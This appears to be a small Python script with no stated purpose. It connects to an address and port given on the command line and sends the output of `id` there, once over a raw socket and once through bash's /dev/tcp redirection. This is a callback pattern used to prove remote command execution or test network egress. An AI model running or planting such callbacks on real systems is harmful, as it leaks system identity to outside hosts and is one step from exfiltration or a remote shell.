import os, shutil, socket, subprocess, sys

address, port = sys.argv[1:]
try:
    with socket.create_connection((address, int(port)), timeout=1) as s:
        subprocess.run(["sh", "-c", "id"], stdin=subprocess.DEVNULL, stdout=s, stderr=s)
except OSError:
    pass
if shutil.which("bash"):
    subprocess.run(["bash", "-c", f"id > /dev/tcp/{address}/{port}"], stderr=subprocess.DEVNULL)
